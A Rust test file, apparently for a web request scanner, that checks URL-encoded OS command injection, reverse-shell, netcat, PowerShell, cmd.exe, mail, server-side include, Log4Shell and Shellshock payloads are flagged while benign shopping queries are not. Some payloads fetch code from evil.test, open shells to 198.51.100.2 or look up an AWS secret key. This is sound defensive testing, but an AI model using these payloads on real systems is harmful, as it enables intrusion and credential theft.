//! OS command injection fixtures, with Log4Shell and Shellshock.

use super::{check, check_agent, check_clean, check_value};

#[test]
fn flags_commands_after_separators() {
    check("/ping?host=10.0.0.8%3Bid", &["rce query:host high: command after separator"]);
    check_value("x%7Cuname%20-a", "rce query:v high: command after separator");
    check_value(
        "x%26%26wget%20http%3A%2F%2Fevil.test%2Fm%20-O%20%2Ftmp%2Fm",
        "rce query:v high: command after separator",
    );
    check(
        "/p?v=1%0Acat%20%2Fetc%2Fissue",
        &["traversal query:v high: sensitive file", "rce query:v high: command after separator"],
    );
}

#[test]
fn flags_command_substitution() {
    check_value("%60whoami%60", "rce query:v high: command substitution");
    check_value("%24(id)", "rce query:v high: command substitution");
}

#[test]
fn flags_shells_interpreters_and_reverse_shells() {
    check_value("bash%20-c%20%27id%27", "rce query:v high: shell or interpreter with inline code");
    check_value(
        "%3Bnc%20-e%20%2Fbin%2Fbash%20198.51.100.2%205555",
        "rce query:v high: netcat connection",
    );
    check(
        "/p?v=0%3C%26196%3Bexec%20196%3C%3E%2Fdev%2Ftcp%2F198.51.100.2%2F4444",
        &["traversal query:v high: sensitive file", "rce query:v high: reverse shell"],
    );
    check_value(
        "%26%20powershell%20-nop%20-w%20hidden%20-c%20iex(1)",
        "rce query:v high: shell or interpreter with inline code",
    );
}

#[test]
fn flags_obfuscated_commands() {
    check_value("%3Bw%27h%27o%27am%27i", "rce query:v high: obfuscated command name");
    check(
        "/p?v=%3Bcat%24%7BIFS%7D%2Fetc%2Fhosts",
        &["traversal query:v high: sensitive file", "rce query:v high: $IFS word splitting"],
    );
    check_value("%2Fb%3Fn%2Fc%3Ft%20%2Fe%3Fc%2Fp%3Fsswd", "rce query:v high: globbed command path");
    check_value("%7Bifconfig%2C-a%7D", "rce query:v high: brace expansion yields a command");
}

#[test]
fn flags_cmd_exe_statements() {
    check_value(
        "%26%20for%20%25f%20in%20(*.bak)%20do%20type%20%25f",
        "rce query:v high: cmd.exe FOR loop",
    );
    check(
        "/p?v=if%20exist%20c%3A%5Cboot.ini%20echo%20yes",
        &["traversal query:v high: sensitive file", "rce query:v high: cmd.exe IF statement"],
    );
}

#[test]
fn flags_mail_and_server_side_include_injection() {
    check_value(
        "a%40b.test%0D%0ARCPT%20TO%3A%3Cvictim%40c.test%3E",
        "rce query:v high: mail command after line break",
    );
    check_value(
        "%3C!--%23exec%20cmd%3D%22ls%22--%3E",
        "rce query:v high: server-side include directive",
    );
}

#[test]
fn flags_log4shell_with_obfuscation() {
    check_value("%24%7Bjndi%3Aldaps%3A%2F%2Fx.test%2Fz%7D", "log4shell query:v high: JNDI lookup");
    check_value(
        "%24%7B%24%7Blower%3AJ%7D%24%7Bupper%3An%7Ddi%3Adns%3A%2F%2Fx.test%7D",
        "log4shell query:v high: JNDI lookup",
    );
    check_value(
        "%24%7B%24%7Benv%3ANOPE%3A-j%7Dndi%3Armi%3A%2F%2Fx.test%2Fa%7D",
        "log4shell query:v high: JNDI lookup",
    );
    check_agent(
        "Mozilla/5.0 ${${::-j}${::-n}${::-d}${::-i}:ldap://x.test/a}",
        &["log4shell user_agent high: JNDI lookup"],
    );
    check_value("%24%7Benv%3AAWS_SECRET_ACCESS_KEY%7D", "log4shell query:v medium: Log4j lookup");
}

#[test]
fn flags_shellshock() {
    check_agent(
        "() { :;}; echo; /usr/bin/id",
        &[
            "rce user_agent high: command after separator",
            "shellshock user_agent high: Bash function definition",
        ],
    );
    check(
        "/p?v=()%20%7B%20ignored%3B%20%7D%3B%20sleep%205",
        &[
            "rce query:v high: command after separator",
            "shellshock query:v high: Bash function definition",
        ],
    );
}

#[test]
fn leaves_prose_with_command_words_alone() {
    check_clean(&[
        "/search?q=cat+food+%3B+dry",
        "/search?q=dog+%26+cat",
        "/search?q=salt+%26+pepper+grinder",
        "/search?q=time+out+watch",
        "/search?q=echo+dot",
        "/search?q=ping+pong+table",
        "/search?q=ls+400+sedan",
        "/search?q=nc+state+hoodie",
        "/search?q=bash+hat",
        "/search?q=shoes+(size+42)",
        "/review?text=Fits+well%3B+more+than+I+hoped.",
        "/search?q=%24100+gift+card",
        "/search?q=if+you+like+it",
        "/p?price=%7E20",
        "/search?q=rock+%26+roll+t-shirt",
    ]);
}
